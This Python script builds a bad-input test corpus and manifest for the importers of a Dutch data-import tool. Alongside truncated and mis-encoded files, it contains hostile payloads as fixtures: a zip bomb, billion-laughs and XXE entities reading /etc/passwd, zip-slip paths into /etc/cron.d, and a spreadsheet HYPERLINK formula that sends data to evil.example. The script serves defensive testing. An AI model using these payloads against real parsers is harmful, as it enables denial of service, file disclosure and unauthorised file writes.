"""Write the bad-input corpus and its MANIFEST.csv (run from the repository root).

    .venv/bin/python tests/bad_inputs/make_bad_inputs.py

Every file is built here from bytes (no timestamps, fixed zip dates), so running the script
again gives the same files. The two 20 MB single-line files are not committed: the test
writes them into its temporary folder with `BIG`. Each entry of `CASES` says which importer
the file targets (a kind id of `etl.KINDS`), what is wrong with it, what must happen
(`refused`, `warning`: imported with at least one warning, `imported`: read cleanly) and a
few words the owner's sentence must contain. tests/test_bad_inputs.py runs every one of
them through the CLI, the upload page and the parser.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIXTURES = HERE.parent / "fixtures"
ZIP_DATE = (2026, 11, 25, 12, 0, 0)

EB_HEADER = "ID;AddDatum;Code;Bedrijf;Contactpersoon;Plaats;Email;KvkNummer;IBAN\r\n"
EB_ROWS = [
    "201;15-1-2019;B001;Slecht Bestand B.V.;Jan Fictief;Roermond;jan@slecht.example;90000201;\r\n",
    "202;03-02-2020;B002;Café Rommel;Marieke Nepper;Swalmen;info@rommel.example;90000202;\r\n",
    "203;1-3-2021;B003;Proef Kapot VOF;;Roermond;kapot@proef.example;;\r\n",
    "204;12-12-2022;B004;Nep Afgebroken B.V.;Piet Verzonnen;Roermond;piet@nep.example;;\r\n",
]
SS_HEADER = "Relatiecode,Naam,Contactpersoon,Plaats,Emailadres,Nummer kvk,Relatiesoort\r\n"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def eb_csv(*rows: str, header: str = EB_HEADER, encoding: str = "cp1252") -> bytes:
    return (header + "".join(rows)).encode(encoding)


# ------------------------------------------------------------------------- zip and XLSX
def zip_bytes(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data, compress_type=method)
    return buffer.getvalue()


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
    b'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    b'worksheet+xml"/></Types>'
)
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Export" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_OPEN = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheetData>"
)
SHEET_CLOSE = b"</sheetData></worksheet>"


def _column(index: int) -> str:
    return "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[index]


def _cell(ref: str, value: object) -> str:
    """A cell: text inline, a number, or ("=FORMULA", cached value or None)."""
    if isinstance(value, tuple):
        formula, cached = value
        body = f"<f>{_escape(formula.removeprefix('='))}</f>"
        if cached is None:
            return f'<c r="{ref}">{body}</c>'
        return f'<c r="{ref}" t="str">{body}<v>{_escape(str(cached))}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{_escape(str(value))}</t></is></c>'


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet_xml(rows: list[list[object]]) -> bytes:
    body = "".join(
        f'<row r="{r}">'
        + "".join(_cell(f"{_column(c)}{r}", v) for c, v in enumerate(row) if v is not None)
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )
    return SHEET_OPEN + body.encode() + SHEET_CLOSE


def xlsx(sheet: bytes, extra: list[tuple[str, bytes]] = ()) -> bytes:  # type: ignore[assignment]
    return zip_bytes(
        [
            ("[Content_Types].xml", _CONTENT_TYPES),
            ("_rels/.rels", _ROOT_RELS),
            ("xl/workbook.xml", _WORKBOOK),
            ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
            ("xl/worksheets/sheet1.xml", sheet),
            *extra,
        ]
    )


EB_XLSX_HEADER = ["Code", "Bedrijf", "Email", "KvkNummer", "AddDatum"]


def xlsx_zip_bomb() -> bytes:
    """~2 MB of rows an inch tall: ~100 MB of sheet XML deflated to ~100 KB."""
    header = sheet_xml([EB_XLSX_HEADER]).removesuffix(SHEET_CLOSE)
    row = b'<row><c t="inlineStr"><is><t>B</t></is></c></row>'
    return xlsx(header + row * (100_000_000 // len(row)) + SHEET_CLOSE)


def xlsx_corner_cell() -> bytes:
    """One relation, and a sheet whose dimension and last cell claim all of Excel's grid."""
    rows = [EB_XLSX_HEADER, ["K001", "Testbedrijf Hoek B.V.", "info@hoek.example", "90000011",
                             "01-02-2024"]]  # fmt: skip
    body = sheet_xml(rows).replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    corner = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return xlsx(body.replace(SHEET_CLOSE, corner + SHEET_CLOSE))


def xlsx_with_formulas() -> bytes:
    return xlsx(
        sheet_xml(
            [
                EB_XLSX_HEADER,
                ["F001", "Formule Test B.V.", "info@formule.example", "90000301", "01-02-2024"],
                # Excel saved a result: the formula must still not be taken for data.
                ["F002", ("=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")", "Klik"),
                 "f2@formule.example", "90000302", "01-03-2024"],
                # No cached result (a file written by a script): the cell would read empty.
                ["F003", ("=CONCAT(A2,A3)", None), "f3@formule.example", "", "01-04-2024"],
            ]
        )
    )  # fmt: skip


def xlsx_entities() -> bytes:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    )
    sheet = sheet_xml([EB_XLSX_HEADER, ["&lol3;", "Entiteit B.V.", "", "", ""]])
    sheet = sheet.replace(b"&amp;lol3;", b"&lol3;")
    return xlsx(bomb + sheet.split(b"?>", 1)[1])


def xlsx_slip() -> bytes:
    good = sheet_xml([EB_XLSX_HEADER, ["S001", "Pad Test B.V.", "", "", "01-02-2024"]])
    return xlsx(good, [("../../evil.txt", b"written outside the folder")])


# ------------------------------------------------------------------------- XML
def billion_laughs(root: str) -> bytes:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n' + "\n".join(levels) + "\n]>\n"
        f"<{root}>&lol9;</{root}>\n"
    ).encode()


def xxe(root: str, inner: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f"\n<{root}>{inner.replace('XXE', '&xxe;')}</{root}>\n"
    ).encode()


XAF_OPEN = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<auditfile xmlns="http://www.auditfiles.nl/XAF/3.2">'
    "<header><fiscalYear>2024</fiscalYear><softwareDesc>SnelStart 12</softwareDesc></header>"
    "<company><companyIdent>TEST</companyIdent><customersSuppliers>"
)


def xaf_customers(*customers: tuple[str, str, str]) -> bytes:
    body = "".join(
        f"<customerSupplier><custSupID>{ref}</custSupID><custSupName>{name}</custSupName>"
        f"<custSupTp>C</custSupTp><changeInfo><changeDateTime>{changed}</changeDateTime>"
        "</changeInfo></customerSupplier>"
        for ref, name, changed in customers
    )
    return (XAF_OPEN + body + "</customersSuppliers></company></auditfile>\n").encode()


# ------------------------------------------------------------------------- mail
MBOX_BROKEN_MIME = b"""From MAILER-DAEMON Thu Jan  1 00:00:00 2026
From: Kapot Mime <kapot@mime.example>
To: ICT Roermond <info@ictroermond.nl>
Subject: =?utf-8?B?T25kZXJ3ZXJwIG1ldCBrYXBvdHRl?= =?bogus-charset?Q?=E9=?=
Date: Mon, 2 Feb 2026 10:00:00 +0100
Message-ID: <broken-mime-1@mime.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="never-closed"

--never-closed
Content-Type: text/plain; charset="x-unknown-charset"
Content-Transfer-Encoding: base64

R3JhYWcgd2lsIGlrIG1pam4gZ2VnZXZlbnMgaW56aWVuLi4u!!!not base64 at all===
--never-closed
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<p>Inzage =E9=XX=
 verzoek</p><div
From MAILER-DAEMON Thu Jan  1 00:00:00 2026
From: Geen Datum <geen@datum.example>
To: info@ictroermond.nl
Subject: Zonder datum
Content-Type: multipart/alternative

no boundary parameter at all

"""


def msg_corrupt() -> bytes:
    """An OLE compound file header with garbage where the directory should be."""
    return fixture("mailbox/outlook.msg")[:512] + bytes(range(256)) * 16


def mail_nested(levels: int) -> bytes:
    """A message whose body is a multipart inside a multipart, `levels` deep."""
    head = (
        "From: Test Afzender <afzender@voorbeeld.example>\r\nTo: info@ictroermond.nl\r\n"
        "Subject: Genest\r\nDate: Mon, 23 Nov 2026 10:00:00 +0100\r\n"
        "Message-ID: <genest@voorbeeld.example>\r\nMIME-Version: 1.0\r\n"
    )
    opening = "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(levels)
    )
    closing = "".join(f"\r\n--b{i}--\r\n" for i in reversed(range(levels)))
    return (head + opening + "Content-Type: text/plain\r\n\r\nHallo\r\n" + closing).encode()


def mail_zip_slip() -> bytes:
    eml = (FIXTURES / "mailbox/labelled/20-access-nl-formal.eml").read_bytes()
    return zip_bytes([("Postvak IN/ok.eml", eml), ("../../../etc/cron.d/evil.eml", eml)])


# ------------------------------------------------------------------------- the corpus
@dataclass(frozen=True)
class Case:
    file: str
    importer: str  # kind id in etl.KINDS
    problem: str
    expected: str  # refused | warning | imported
    message: str  # words the refusal (or a warning) must contain
    build: Callable[[], bytes]


def _text(text: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: text.encode(encoding)


def _bytes(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _cut(name: str, fraction: float) -> Callable[[], bytes]:
    return lambda: fixture(name)[: int(len(fixture(name)) * fraction)]


CASES: list[Case] = []  # filled below, one file per entry


def case(file: str, importer: str, problem: str, expected: str, message: str,
         build: Callable[[], bytes]) -> None:  # fmt: skip
    CASES.append(Case(file, importer, problem, expected, message, build))


# fmt: off
# e-boekhouden.nl
case("eb-relaties-empty.csv", "eboekhouden.relations", "empty file (0 bytes)", "refused",
     "empty", _bytes(b""))
case("eb-relaties-header-only.csv", "eboekhouden.relations", "only the header row", "refused",
     "only column names", lambda: eb_csv())
case("eb-relaties-garbage.csv", "eboekhouden.relations", "binary garbage named .csv",
     "refused", "not a text or Excel file", _bytes(bytes(range(256)) * 12))
case("eb-relaties-truncated.csv", "eboekhouden.relations",
     "cut off in the middle of a quoted field of the last row", "refused", "cut off",
     lambda: eb_csv(*EB_ROWS[:3]) + b'204;12-12-2022;B004;"Nep Afgeb')
case("eb-relaties-wrong-delimiter.csv", "eboekhouden.relations",
     "columns separated by ':' (no delimiter an export uses)", "refused", "not recognised",
     lambda: eb_csv(*(r.replace(";", ":") for r in EB_ROWS),
                    header=EB_HEADER.replace(";", ":")))
case("eb-relaties-mixed-encoding.csv", "eboekhouden.relations",
     "UTF-8 with one Windows-1252 'é' further on", "imported", "",
     lambda: eb_csv(*EB_ROWS[:2], encoding="utf-8") + EB_ROWS[2].replace(
         "Proef Kapot", "Proef Café").encode("cp1252"))
case("eb-relaties-dates.csv", "eboekhouden.relations",
     "an impossible date (31-02-2024) and one in 2099 among good ones", "warning",
     "looks wrong", lambda: eb_csv(EB_ROWS[0], EB_ROWS[1].replace("03-02-2020", "31-02-2024"),
                                   EB_ROWS[2].replace("1-3-2021", "1-3-2099"), EB_ROWS[3]))
case("eb-relaties-all-dates-bad.csv", "eboekhouden.relations",
     "every date unreadable (a wrong column or format)", "refused", "dates could not be read",
     lambda: eb_csv(*(r.replace("-20", "/xx/20") for r in EB_ROWS)))
case("eb-relaties-duplicates.csv", "eboekhouden.relations", "the same relation twice",
     "warning", "also appears", lambda: eb_csv(*EB_ROWS, EB_ROWS[1]))
case("eb-relaties-nul.csv", "eboekhouden.relations", "NUL bytes through the text",
     "refused", "not a text or Excel file",
     lambda: eb_csv(*EB_ROWS).replace(b";", b";\x00\x00\x00\x00"))
case("eb-relaties-utf16-odd.csv", "eboekhouden.relations",
     "UTF-16 with a BOM, cut off after an odd number of bytes", "refused", "cut off",
     lambda: eb_csv(*EB_ROWS, encoding="utf-16")[:-3])
case("eb-relaties-corner-cell.xlsx", "eboekhouden.relations",
     "a 2 KB sheet claiming A1:XFD1048576, one stray cell in the far corner", "warning",
     "has no code", xlsx_corner_cell)
case("eb-relaties-zipbomb.xlsx", "eboekhouden.relations",
     "zip bomb: ~100 KB that unpacks to ~100 MB of sheet XML", "refused", "zip bomb",
     xlsx_zip_bomb)
case("eb-relaties-formulas.xlsx", "eboekhouden.relations",
     "formula cells (one with a cached result, one without)", "refused", "formula",
     xlsx_with_formulas)
case("eb-relaties-entities.xlsx", "eboekhouden.relations",
     "sheet XML declaring entities (billion laughs)", "refused", "declares entities",
     xlsx_entities)
case("eb-relaties-zipslip.xlsx", "eboekhouden.relations",
     "workbook with a '../../evil.txt' member", "refused", "unsafe path", xlsx_slip)
case("eb-facturen-truncated.xlsx", "eboekhouden.invoices", "XLSX cut in half", "refused",
     "damaged or cut off", _cut("eboekhouden/facturen.xlsx", 0.5))
case("eb-facturen-future.csv", "eboekhouden.invoices", "invoices dated 2099 and 1899-12-31",
     "warning", "looks wrong",
     _text("Factuurnummer;Relatiecode;Datum;Betalingstermijn;TotaalInclBTW\r\n"
           "F1;K001;1-2-2024;14;121,00\r\nF2;K001;1-2-2099;14;60,50\r\n"
           "F3;K002;31-12-1899;14;10,00\r\nF4;K002;3-3-2024;14;10,00\r\n"))
case("eb-mutaties-header-only.xlsx", "eboekhouden.mutations", "only the header row",
     "refused", "only column names",
     lambda: xlsx(sheet_xml([["MutatieNr", "Soort", "Datum", "RelatieCode", "Factuurnummer"]])))
case("eb-relations-truncated.json", "eboekhouden.relations", "REST answer cut off",
     "refused", "not valid JSON", _cut("eboekhouden/relations.json", 0.6))
case("eb-relations-5000-digit-id.json", "eboekhouden.relations",
     "an id of 5,000 digits, beyond Python's limit for turning digits into a number",
     "refused", "5000 digits",
     lambda: fixture("eboekhouden/relations.json").replace(b'"id": 9001', b'"id": ' + b"9" * 5000))
case("eb-invoices-empty.json", "eboekhouden.invoices", "REST answer with an empty list",
     "refused", "empty list", _text('{"items": [], "count": 0}'))
# SnelStart
case("ss-relaties-header-only.xlsx", "snelstart.relations", "only the header row",
     "refused", "only column names",
     lambda: xlsx(sheet_xml([["Relatiecode", "Naam", "Emailadres", "Relatiesoort"]])))
case("ss-relaties-old.xls", "snelstart.relations", "an Excel 97-2003 file", "refused",
     "Excel 97-2003", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024))
case("ss-relaties-tab-in-commas.csv", "snelstart.relations",
     "header separated by tabs, rows by commas", "refused", "not recognised",
     lambda: (SS_HEADER.replace(",", "\t") + "1001,Naam,,Roermond,a@b.example,,Klant\r\n"
              "1002,Twee,,Swalmen,c@d.example,,Klant\r\n").encode())
case("ss-verkoopfacturen-html.json", "snelstart.invoices",
     "an HTML error page saved as .json", "refused", "web page (HTML)",
     _text("<html><body><h1>502 Bad Gateway</h1></body></html>"))
case("ss-relaties-deep.json", "snelstart.relations", "JSON nested 100,000 levels deep",
     "refused", "nested too deeply", _bytes(b"[" * 100_000 + b"]" * 100_000))
case("ss-verkoopfacturen-duplicates.csv", "snelstart.invoices",
     "every invoice line twice, one number also on another relation", "warning",
     "also booked", _text("Factuurnummer;Factuurdatum;Klantcode\r\n20240001;05-06-2024;1001\r\n"
                          "20240001;05-06-2024;1001\r\n20240002;5-7-2024;1002\r\n"
                          "20240002;5-7-2024;1001\r\n"))
# XML Auditfile
case("xaf-billion-laughs.xaf", "snelstart.auditfile", "entity expansion (billion laughs)",
     "refused", "DOCTYPE", lambda: billion_laughs("auditfile"))
case("xaf-xxe.xaf", "snelstart.auditfile", "external entity reading /etc/passwd (XXE)",
     "refused", "DOCTYPE", lambda: xxe("auditfile", "<header><softwareDesc>XXE</softwareDesc>"
                                                    "</header>"))
case("xaf-truncated.xaf", "snelstart.auditfile", "audit file cut off halfway", "refused",
     "not well-formed XML", _cut("xaf/snelstart-2024.xaf", 0.5))
case("xaf-dates.xaf", "snelstart.auditfile",
     "changeDateTime 2024-02-30 and 2099-01-01 among good ones", "warning", "looks wrong",
     lambda: xaf_customers(("C1", "Eerste Klant", "2024-01-05"),
                           ("C2", "Tweede Klant", "2024-02-30"),
                           ("C3", "Derde Klant", "2099-01-01"),
                           ("C4", "Vierde Klant", "2024-03-01")))
case("xaf-eboekhouden-empty.xaf", "eboekhouden.auditfile",
     "an e-Boekhouden.nl audit file without customers or transactions", "refused",
     "holds no customers or transactions",
     _text('<?xml version="1.0"?><auditfile xmlns="http://www.auditfiles.nl/XAF/3.2"><header>'
           "<softwareDesc>e-Boekhouden.nl</softwareDesc></header><company>"
           "<customersSuppliers/></company></auditfile>"))
# Mailbox
case("mail-broken-mime.mbox", "mailbox.messages",
     "unclosed multipart boundary, bad base64 and charsets; a second message without a date",
     "warning", "without a readable date", _bytes(MBOX_BROKEN_MIME))
case("mail-corrupt.msg", "mailbox.messages", "an Outlook .msg whose directory is garbage",
     "refused", "Outlook .msg", msg_corrupt)
case("mail-truncated.msg", "mailbox.messages", "an Outlook .msg cut in half", "refused",
     "Outlook .msg", _cut("mailbox/outlook.msg", 0.5))
case("mail-garbage.pst", "mailbox.messages", "PST magic followed by garbage", "refused",
     ".pst", lambda: b"!BDN" + bytes(range(256)) * 8)
case("mail-zipslip.zip", "mailbox.messages", "zip of .eml with a '../../../etc' member",
     "refused", "unsafe path", mail_zip_slip)
case("mail-truncated.zip", "mailbox.messages", "zip of .eml cut in half", "refused",
     "damaged", _cut("mailbox/messages.zip", 0.5))
case("mail-nested-3000.eml", "mailbox.messages", "3,000 multipart levels, one inside the other",
     "refused", "parts inside parts", lambda: mail_nested(3000))
case("mail-empty.eml", "mailbox.messages", "an .eml holding headers only, no date or sender",
     "refused", "not recognised", _text("Subject: leeg\r\n\r\n"))
case("mail-trace-utf16-odd.csv", "mailbox.messages",
     "message trace (UTF-16) cut off after an odd number of bytes", "refused", "cut off",
     lambda: fixture("mailbox/message-trace-utf16.csv")[:-5])
# TransIP
case("transip-firewall-truncated.json", "transip.firewall", "API answer cut off",
     "refused", "not valid JSON", _cut("transip/transip_firewall_ictr-vps1.json", 0.5))
case("transip-vps-wrong-types.json", "transip.vps", "vpss holds numbers, not objects",
     "refused", "VPS", _text('{"vpss": [1, "two", null]}'))
case("transip_firewall_vps-bare-address.json", "transip.firewall",
     "a rule's whitelist is one bare address, not a list", "imported", "",
     _text('{"vpsFirewall": {"isEnabled": true, "ruleSet": [{"description": "SSH beheer", '
           '"startPort": 22, "endPort": 22, "protocol": "tcp", "whitelist": "203.0.113.7"}]}}'))
case("ip-addresses.json", "transip.ip_addresses",
     "addresses of a VPS under a name that does not say which VPS", "refused",
     "does not say which VPS", _text('{"ipAddresses": [{"address": 5}, 1]}'))
case("transip_contacts_junk.example.json", "transip.domains",
     "WHOIS contacts that are numbers or lack every name", "warning", "has no name",
     _text('{"contacts": [1, {"type": 5}, null]}'))
case("transip_invoices-odd-types.json", "transip.invoices",
     "invoice fields with lists and objects for values", "warning", "hold no client data",
     _text('{"invoices": [{"invoiceNumber": 5, "invoiceStatus": [], "creationDate": {}}]}'))
case("transip-bundle-zipslip.zip", "transip.bundle", "a member named '../transip_vps.json'",
     "refused", "unsafe path",
     lambda: zip_bytes([("../transip_vps.json", fixture("transip/transip_vps.json"))]))
case("transip-bundle-bomb.zip", "transip.bundle",
     "zip bomb: a JSON member of ~100 MB of spaces deflated to ~100 KB", "refused", "zip bomb",
     lambda: zip_bytes([("transip_vps.json", b'{"vpss": [' + b" " * 100_000_000 + b"]}")]))
# Password vault
case("vault-bitwarden-header-only.csv", "vault.bitwarden", "only the header row", "refused",
     "only column names",
     _text("folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,"
           "login_password,login_totp\r\n"))
case("vault-bitwarden-types.json", "vault.bitwarden",
     "items with numbers and lists where text is expected", "warning", "not a date",
     _text(json.dumps({"encrypted": False, "folders": 5, "items": [
         {"type": "1", "name": 5, "login": {"uris": "x", "username": 7}, "revisionDate": 5},
         {"type": 1, "name": "Goed", "login": {"uris": [{"uri": 9}], "username": ["a"]},
          "revisionDate": "2026-01-01T00:00:00Z"},
         {"type": 1, "name": "Ook goed", "login": {"username": "b"},
          "revisionDate": "2026-02-01T00:00:00Z"},
         3]})))  # fmt: skip
case("vault-keepass-billion-laughs.xml", "vault.keepass", "entity expansion (billion laughs)",
     "refused", "DOCTYPE", lambda: billion_laughs("KeePassFile"))
case("vault-keepass-xxe.xml", "vault.keepass", "external entity reading /etc/passwd (XXE)",
     "refused", "DOCTYPE",
     lambda: xxe("KeePassFile", "<Root><Group><Entry><String><Key>Title</Key><Value>XXE"
                                "</Value></String></Entry></Group></Root>"))
case("vault-keepass-truncated.xml", "vault.keepass", "KeePass XML cut off", "refused",
     "damaged", _cut("vault/keepass.xml", 0.4))
case("vault-keepass-semicolons.csv", "vault.keepass", "KeePass CSV with ';' in the header "
     "and ',' in the rows", "refused", "password could land",
     _text('"Account";"Login Name";"Password";"Web Site";"Comments"\r\n'
           '"Router","admin","geheim","http://192.0.2.1","x"\r\n'))
# DSD Europe
case("dsd-licenties-dates.csv", "dsd.licences", "order dates 30-02-2025 and 2099", "warning",
     "looks wrong",
     _text("Ordernummer;Orderdatum;Eindklant;Product;Licentiesleutel\r\n"
           "D1;15-01-2024;Kapsalon Testknip B.V.;ESET;ESETK-AAAA-DK7Q\r\n"
           "D2;30-02-2025;Bakkerij Proefdeeg;M365;M365X-QQQQ-RR4T\r\n"
           "D3;01-01-2099;Bakkerij Proefdeeg;M365;M365X-QQQQ-ZZ9Z\r\n"
           "D4;03-03-2025;Bakkerij Proefdeeg;Office;OFFIC-QQQQ-AB12\r\n"))
case("dsd-licenties-truncated.xlsx", "dsd.licences", "XLSX cut off", "refused",
     "damaged or cut off", _cut("dsd/licenties.xlsx", 0.7))
case("dsd-licenties-formulas.xlsx", "dsd.licences", "licence key computed by a formula",
     "refused", "formula",
     lambda: xlsx(sheet_xml([["Eindklant", "Product", "Licentiesleutel"],
                             ["Kapsalon Testknip B.V.", "ESET", ('=A2&"-KEY"', "X-KEY")]])))
# Website evidence
case("web-not-json.har", "website.har", "an HTML error page saved as .har", "refused",
     "not valid JSON", _text("<html><body>502 Bad Gateway</body></html>"))
case("web-no-entries.har", "website.har", "a HAR without requests", "refused",
     "holds no requests", _text('{"log": {"version": "1.2", "entries": []}}'))
case("web-truncated.har", "website.har", "a HAR cut off halfway", "refused",
     "not valid JSON", _cut("website/firefox.har", 0.5))
case("web-page-binary.html", "website.page", "binary garbage named .html", "refused",
     "not a text file", _bytes(bytes(range(256)) * 4))
case("web-cookie-scan-header-only.csv", "website.cookie_scan", "only the header row",
     "refused", "holds no cookies",
     _text("Cookie / Data Key name,Domain,Retention period,Category\r\n"))
case("web-ga-truncated.json", "website.ga_settings", "Admin API answer cut off", "refused",
     "not valid JSON", _text('{"dataRetentionSettings": {"eventDataRetention": '))
case("web-ga-nothing-read.json", "website.ga_settings",
     "GA answer whose fields have the wrong types", "refused", "holds no setting",
     _text('{"dataRetentionSettings": {"eventDataRetention": 5, "name": 7}}'))
# fmt: on


# ------------------------------------------------------------------------- big ones
def _big_line(path: Path) -> Path:
    """20 MB in one line, no line break at all: a log file or a minified dump."""
    with path.open("wb") as handle:
        handle.write(b"Code;Bedrijf;Email;")
        for _ in range(20):
            handle.write(b"x" * (1024 * 1024))
    return path


def _big_field(path: Path) -> Path:
    """A real header, then one relation whose name is 20 MB long."""
    with path.open("wb") as handle:
        handle.write(EB_HEADER.encode())
        handle.write(b"301;1-1-2024;L001;")
        for _ in range(20):
            handle.write(b"L" * (1024 * 1024))
        handle.write(b";Jan;Roermond;l@lang.example;;\r\n")
    return path


def _big_cookie_cells(path: Path) -> Path:
    """A cookie scan whose Domain and Retention cells hold 2 MB of letters each: a pattern
    that backtracks on such a cell never finishes (the retention one once took hours)."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("Cookie / Data Key name,Domain,Retention period,Category\r\n")
        handle.write(f"_ga,{'a' * 2_000_000},{'y' * 2_000_000}1,Analytics\r\n")
        handle.write("_gid,.nep-voorbeeld.nl,1 day,Analytics\r\n")
    return path


def _many_recipients(path: Path) -> Path:
    to = ", ".join(f"Persoon {i} <p{i}@voorbeeld.example>" for i in range(60_000))
    path.write_bytes(
        f"From: afzender@voorbeeld.example\r\nTo: {to}\r\nSubject: Aan iedereen\r\n"
        "Date: Mon, 23 Nov 2026 10:00:00 +0100\r\nMessage-ID: <veel@voorbeeld.example>\r\n"
        "\r\nHallo allemaal\r\n".encode()
    )
    return path


BIG = {
    "eb-relaties-20mb-line.csv": ("eboekhouden.relations", "20 MB in a single line", "refused",
                                  "longer than 4 MB", _big_line),
    "eb-relaties-20mb-field.csv": ("eboekhouden.relations",
                                   "a header, then a row with a 20 MB field", "refused",
                                   "longer than 4 MB", _big_field),
    "mail-60000-recipients.eml": ("mailbox.messages", "one message to 60,000 addresses (3 MB)",
                                  "refused", "addressed to 60,000 people", _many_recipients),
    "web-cookie-scan-2mb-cells.csv": ("website.cookie_scan",
                                      "2 MB of letters in a domain and a retention cell",
                                      "warning", "not understood", _big_cookie_cells),
}  # fmt: skip
GENERATED_AT_TEST_TIME = "(written by the test into its temporary folder)"


def write_manifest(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle, lineterminator="\n")
        out.writerow(["file", "importer", "problem", "expected", "message"])
        for c in CASES:
            out.writerow([c.file, c.importer, c.problem, c.expected, c.message])
        for name, (importer, problem, expected, message, _) in BIG.items():
            out.writerow([name, importer, f"{problem} {GENERATED_AT_TEST_TIME}", expected,
                          message])  # fmt: skip


def main() -> None:
    names = [c.file for c in CASES]
    assert len(names) == len(set(names)), "a file name is used twice"
    for c in CASES:
        (HERE / c.file).write_bytes(c.build())
    write_manifest(HERE / "MANIFEST.csv")
    print(f"{len(CASES)} files and MANIFEST.csv written to {HERE}")


if __name__ == "__main__":
    main()
